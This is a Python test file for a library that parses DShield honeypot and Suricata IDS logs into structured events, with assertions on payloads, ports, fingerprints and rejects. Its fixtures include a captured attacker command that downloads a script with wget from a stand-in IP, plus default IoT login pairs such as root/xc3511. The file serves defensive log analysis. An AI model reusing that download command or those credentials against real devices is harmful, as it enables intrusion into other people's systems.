"""DShield and Suricata: from the files they write to facts."""

import gzip
import io
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from clew.ingest.facts import ATTACK_TYPES, Facts
from clew.ingest.framing import FramingLimits, frame
from clew.ingest.recognition import recognise
from clew.ingest.sources.base import ReadContext, Sample
from clew.ingest.sources.times import NO_TIME_ZONE_WARNING

ROOT = Path(__file__).parents[4]
FIXTURES = ROOT / "tests/fixtures"


def read(path: Path, source_name: str) -> Facts:
    content = path.read_bytes()
    found = recognise(Sample(path.name, content[: 64 << 10], len(content) <= 64 << 10))
    assert found is not None
    source, recognition = found
    assert source.name == source_name
    parts = [one.batch for one in frame(io.BytesIO(content), recognition.framing, FramingLimits()) if one.batch.records]
    (batch,) = parts
    facts = source.read(batch, ReadContext(path.name, recognition.variant))
    assert facts.records.height + facts.rejects.height == len(batch.records)
    assert facts.events["attack_type"].is_in(ATTACK_TYPES).all()
    return facts


def properties(event: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(event["properties"] or "{}")
    return found


def test_web_requests_of_both_agents_of_a_dshield_sensor() -> None:
    facts = read(FIXTURES / "dshield/webhoneypot.json", "dshield")
    first, second = facts.events.to_dicts()
    assert first["payload"] == "GET /boaform/admin/formLogin?username=ec8&psd=ec8 HTTP/1.1"
    assert second["payload"].endswith("\n\ncmd=wget http://203.0.113.9/a.sh")
    assert [each["client"] for each in (first, second)] == ["Mozilla/5.0 zgrab/0.x", "Hello, world"]
    assert first["sensor"] == first["destination_ip"] == "198.51.100.7"
    assert properties(first)["signature_id"] == 7
    assert facts.rejects["reason"].to_list() == ["invalid_timestamp"]
    assert facts.warnings == (NO_TIME_ZONE_WARNING,)


def test_firewall_records_and_logins_of_a_dshield_sensor() -> None:
    packets = read(FIXTURES / "dshield/firewall.json", "dshield")
    assert packets.events.select("protocol", "target_port", "source_port").rows() == [
        ("tcp", 23, 44321),
        ("icmpv6", None, None),
    ]
    assert packets.rejects["reason"].to_list() == ["invalid_port"]
    logins = read(FIXTURES / "dshield/logins.json", "dshield")
    assert [properties(each)["credentials"] for each in logins.events.to_dicts()] == [
        [["root", "xc3511"]],
        [["admin", "admin"]],
    ]
    assert logins.events["protocol"].to_list() == ["ssh", "telnet"]
    assert logins.events["occurred_at"].dt.strftime("%Y-%m-%d %H:%M:%S").to_list() == [
        "2025-03-09 12:00:05",
        "2025-03-09 12:00:06",
    ]


def test_suricata_tells_the_same_whichever_version_wrote_it() -> None:
    facts = read(FIXTURES / "suricata/eve.json", "suricata")
    old, new, ssh, tls, file, stats = facts.events.to_dicts()
    assert (old["attack_type"], old["payload"], old["protocol"]) == ("scan", "POST /sdk HTTP/1.1\r\n\r\n", "http")
    assert properties(old)["http_path"] == "/sdk"
    assert (new["source_ip"], new["target_port"]) == ("192.0.2.10", 80), "who opened the flow is the source"
    assert (old["session"], new["session"]) == ("eth0:1001", "edge:1001")
    assert (ssh["client"], ssh["fingerprint"]) == ("SSH-2.0-libssh2_1.9.0", "hassh:ec7378c1a92f5a8dde7e8b7a1ddf33d1")
    assert properties(tls)["fingerprints"] == [
        "ja3:e7d705a3286e19ea42f587b344ee6865",
        "ja4:t13d1516h2_8daaf6152771_b186095e22b6",
    ]
    digest = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
    assert properties(file)["hashes"] == [digest]
    assert facts.mentions.filter(pl.col("entity_type") == "file_hash")["value"].to_list() == [digest]
    assert (stats["source_ip"], stats["session"]) == (None, None)
    assert facts.rejects["reason"].to_list() == ["invalid_ip_address"]


def test_suricata_is_read_from_a_splunk_export() -> None:
    facts = read(FIXTURES / "suricata/splunk.json", "suricata")
    assert facts.events.select("source_ip", "target_port", "session").rows() == [("192.0.2.10", 3306, "eth0:7")]
    assert facts.rejects["reason"].to_list() == ["missing_field"]


@pytest.mark.realdata
def test_every_alert_of_a_real_splunk_export_is_read(realdata: Path) -> None:
    path = realdata / "suricata/NationalTeam5.json.gz"
    content = gzip.decompress(path.read_bytes())
    found = recognise(Sample(path.name, content[: 64 << 10], complete=False))
    assert found is not None
    source, recognition = found
    facts = [
        source.read(one.batch, ReadContext(path.name, recognition.variant))
        for one in frame(io.BytesIO(content), recognition.framing, FramingLimits())
    ]
    assert sum(each.events.height for each in facts) == 1912
    assert sum(each.rejects.height for each in facts) == 0
